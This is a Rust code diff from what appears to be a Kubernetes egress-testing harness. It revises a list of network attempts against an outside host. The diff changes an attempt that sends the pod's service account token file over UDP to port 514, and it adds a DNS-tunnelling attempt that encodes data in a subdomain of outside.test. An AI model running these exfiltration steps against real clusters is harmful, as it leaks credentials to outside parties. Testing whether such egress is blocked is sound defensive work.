@@ -13,7 +13,8 @@ const ACCOUNT_TOKEN: &str = "/var/run/secrets/kubernetes.io/serviceaccount/token
 /// What can be aimed at.
 #[derive(Clone, Debug)]
 pub struct Targets {
-    /// Address of a host outside of the cluster that listens on TCP 80 and 443 and UDP 53; none on a cluster without
+    /// Address of a host outside of the cluster that listens on TCP 80 and 443 and UDP 514, and answers
+    /// DNS on UDP 53; none on a cluster without
     /// an outside world of its own.
     pub outside: Option<String>,
     /// Address of another pod that serves HTTP on port 8080.
@@ -68,8 +69,12 @@ pub fn attempts(targets: &Targets) -> Vec<Attempt> {
                 json!({ "attempt": "http", "url": format!("http://{host}/") }),
             ),
             attempt(
-                "send the credential file to an outside host, UDP",
-                json!({ "attempt": "udp", "host": host, "port": 53, "file": TOKEN_FILE }),
+                "send the credential file to an outside host, UDP port 514",
+                json!({ "attempt": "udp", "host": host, "port": 514, "file": TOKEN_FILE }),
+            ),
+            attempt(
+                "send data in a DNS name, to an outside host",
+                json!({ "attempt": "dns", "name": "c2VjcmV0.outside.test", "server": host }),
             ),
         ]
     });
